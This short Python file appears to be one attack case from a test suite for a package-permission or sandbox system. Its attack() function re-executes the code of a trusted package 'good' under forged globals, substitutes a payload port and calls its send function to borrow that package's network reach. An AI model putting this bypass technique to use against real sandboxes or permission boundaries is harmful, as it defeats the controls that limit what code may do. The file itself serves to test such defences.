"""The genuine code of a granted package runs over globals of one's own."""
CATEGORY = "forging"
REACH = "net"

from . import payload


def attack():
    import good
    code = good.__loader__.get_code("good")
    names = {"__name__": "good", "__file__": good.__file__,
             "__spec__": good.__spec__, "__path__": good.__path__}
    exec(code, names)
    names["PORT"] = payload.PORT
    names["send"]("evil")
